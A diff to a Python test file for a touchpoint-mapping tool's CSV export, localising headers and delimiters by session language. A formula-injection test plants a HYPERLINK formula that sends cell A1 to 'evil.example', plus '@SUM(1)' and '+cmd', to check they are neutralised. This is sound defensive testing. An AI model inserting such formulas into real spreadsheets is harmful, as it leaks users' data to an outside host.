@@ -19,6 +19,7 @@ from pathlib import Path
 import pytest
 
 from tpworkshop.analysis import analyse
+from tpworkshop.domain.labels import FIELD_LABELS
 from tpworkshop.domain.model import Action, Segment, Session, Stage, Touchpoint
 from tpworkshop.formats.reports import (
     REPORT_FORMATS,
@@ -26,7 +27,7 @@ from tpworkshop.formats.reports import (
     export_report,
     write_report,
 )
-from tpworkshop.formats.reports.csv_report import COLUMNS, LIST_COLUMNS
+from tpworkshop.formats.reports.csv_report import COLUMNS, DELIMITERS, LIST_COLUMNS
 from tpworkshop.formats.reports.markdown import escape
 from tpworkshop.formats.reports.messages import REPORT
 from tpworkshop.formats.reports.picture import self_contained
@@ -252,43 +253,69 @@ def test_markdown_report_sections(example: Session) -> None:
 # --- CSV ------------------------------------------------------------------------------------
 
 
-def read_csv(text: str) -> list[dict[str, str]]:
+def read_csv(text: str, lang: str) -> list[dict[str, str]]:
+    """The rows keyed by FORMAT.md's field names, read as a spreadsheet in ``lang`` would."""
     assert text.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
     data = text.encode("utf-8")
-    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    reader = csv.reader(
+        io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=DELIMITERS[lang]
+    )
+    header, *rows = list(reader)
+    assert header == [FIELD_LABELS(column, lang) for column in COLUMNS]
+    return [dict(zip(COLUMNS, row, strict=True)) for row in rows]
 
 
-def from_row(row: dict[str, str], column: str) -> object:
+def words(lang: str, prefix: str, keys: tuple[str, ...]) -> dict[str, str]:
+    """The report's word for each key, back to the key: {"humano": "human", ...}."""
+    return {REPORT(prefix + key, lang): key for key in keys}
+
+
+def from_row(session: Session, row: dict[str, str], column: str, lang: str) -> object:
     value = row[column]
+    if column == "segment":
+        return {s.name: s.key for s in session.segments}[value]
+    if column == "stage":
+        return {s.name: s.key for s in session.stages}[value]
     if column in LIST_COLUMNS:
         return value.split("; ") if value else []
     if column in ("effectiveness", "votes", "importance"):
         return int(value) if value else None
     if column in ("pain_point", "moment_of_truth"):
-        return {"true": True, "false": False}[value]
-    if column in ("kind", "initiative", "evidence"):
-        return value or None
+        return {REPORT("yes", lang): True, REPORT("no", lang): False}[value]
+    if column == "kind":
+        kinds = ("communication", "human", "physical", "sensory")
+        return words(lang, "kind_", kinds)[value] if value else None
+    if column == "initiative":
+        return words(lang, "initiative_", ("proactive", "reactive"))[value] if value else None
+    if column == "evidence":
+        levels = ("assumed", "reported", "observed", "measured")
+        return words(lang, "evidence_", levels)[value] if value else None
     return value
 
 
 def assert_csv_equals_session(text: str, session: Session) -> None:
-    rows = read_csv(text)
-    assert tuple(rows[0]) == COLUMNS
+    lang = session.language
+    rows = read_csv(text, lang)
     touchpoints = session.in_map_order()
-    assert [row["id"] for row in rows] == [tp.ref for tp in touchpoints]
+    assert [row["ref"] for row in rows] == [tp.ref for tp in touchpoints]
     for row, tp in zip(rows, touchpoints, strict=True):
         for column in COLUMNS:
-            expected = tp.ref if column == "id" else getattr(tp, column)
-            assert from_row(row, column) == expected, (tp.ref, column)
+            expected = getattr(tp, column)
+            assert from_row(session, row, column, lang) == expected, (tp.ref, column)
 
 
 def test_csv_equals_the_example(example: Session) -> None:
+    assert example.language == "es"
+    assert_csv_equals_session(export_report(example, None, "csv"), example)
+    example.language = "en"
     assert_csv_equals_session(export_report(example, None, "csv"), example)
 
 
-def test_csv_keeps_newlines_quotes_commas_and_accents(tmp_path: Path) -> None:
-    session = tricky_session()
+@pytest.mark.parametrize("lang", ["en", "es"])
+def test_csv_keeps_newlines_quotes_separators_and_accents(tmp_path: Path, lang: str) -> None:
+    session = tricky_session(lang)
     session.touchpoints[0].interactions = ["posters", "flyers"]  # "; " inside an item is lossy
+    session.touchpoints[0].channel = "print, outdoor; web"  # both separators inside a cell
     text = export_report(session, None, "csv")
     assert_csv_equals_session(text, session)
     path = tmp_path / "map.csv"
@@ -297,14 +324,43 @@ def test_csv_keeps_newlines_quotes_commas_and_accents(tmp_path: Path) -> None:
     assert raw.startswith(b"\xef\xbb\xbf")
     assert "Márketing".encode() in raw
     assert b'"Know we ""exist""\nand where"' in raw
-    with path.open(encoding="utf-8-sig", newline="") as handle:
-        first = next(csv.reader(handle))
-    assert first[0] == "id"
+    assert b'"print, outdoor; web"' in raw
 
 
-def test_csv_header_is_english_whatever_the_language(example: Session) -> None:
-    header = export_report(example, None, "csv").splitlines()[0]
-    assert header == "\ufeff" + ",".join(COLUMNS)
+def test_csv_speaks_the_sessions_language(example: Session) -> None:
+    spanish = export_report(example, None, "csv").removeprefix("\ufeff").splitlines()
+    assert spanish[0].startswith("Id del punto de contacto;Segmento;Etapa;Nombre;Canal;Tipo;")
+    assert ";Resultado deseado;" in spanish[0] and "," not in spanish[0]
+    first = spanish[1].split(";")
+    assert first[:3] == ["tp-1", "Familias", "Pre-contacto"]  # names, not keys
+    assert "humano" in first and "reactivo" in first and "no" in first
+    english = tricky_session("en")
+    text = export_report(english, None, "csv")
+    assert text.removeprefix("\ufeff").startswith(
+        "Touchpoint id,Segment,Stage,Name,Channel,Kind,Initiative,"
+    )
+    row = read_csv(text, "en")[0]
+    assert (row["segment"], row["stage"]) == ("Retail `x`", "Aware | ness")
+    assert (row["kind"], row["initiative"], row["evidence"]) == (
+        "communication",
+        "proactive",
+        "observed",
+    )
+    assert (row["pain_point"], row["moment_of_truth"]) == ("yes", "yes")
+
+
+@pytest.mark.parametrize("lang", ["en", "es"])
+def test_csv_neutralises_formulas_in_both_languages(lang: str) -> None:
+    session = tricky_session(lang)
+    session.touchpoints[0].name = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+    session.segments[0].name = "@SUM(1)"
+    session.stages[0].name = "+cmd"
+    rows = read_csv(export_report(session, None, "csv"), lang)
+    assert rows[0]["name"].startswith("'=")
+    assert rows[0]["segment"] == "'@SUM(1)" and rows[0]["stage"] == "'+cmd"
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
 
 
 # --- SVG and HTML ---------------------------------------------------------------------------
